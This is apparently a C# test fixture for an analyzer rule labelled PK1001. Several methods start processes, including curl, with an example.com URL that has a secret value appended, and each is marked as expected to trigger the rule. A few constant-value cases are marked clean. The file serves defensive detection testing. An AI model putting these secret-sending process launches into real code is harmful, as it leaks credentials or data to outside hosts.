// programs that are started with an address, said in the call or in what describes the program
using System.Diagnostics;

internal static class Programs
{
    public static void Address() { Process.Start("https://example.com/?n=" + Data.Secret()); } // want PK1001
    public static void AddressPlain() { Process.Start("https://example.com/?n=1"); } // clean
    public static void Arguments() { Process.Start(new ProcessStartInfo("curl") { Arguments = "https://example.com/?n=" + Data.Secret() }); } // want PK1001
    public static void Described() { var info = new ProcessStartInfo { FileName = "https://example.com/?n=" + Data.Secret(), UseShellExecute = true }; Process.Start(info); } // want PK1001
    public static void DescribedPlain() { var info = new ProcessStartInfo { FileName = "https://example.com/?n=1", UseShellExecute = true }; Process.Start(info); } // clean
    public static void Listed() { var info = new ProcessStartInfo("curl"); info.ArgumentList.Add("https://example.com/?n=" + Data.Secret()); Process.Start(info); } // want PK1001
    public static void Local() { var info = new ProcessStartInfo("print.exe") { Arguments = Data.Secret() }; Process.Start(info); } // clean
}
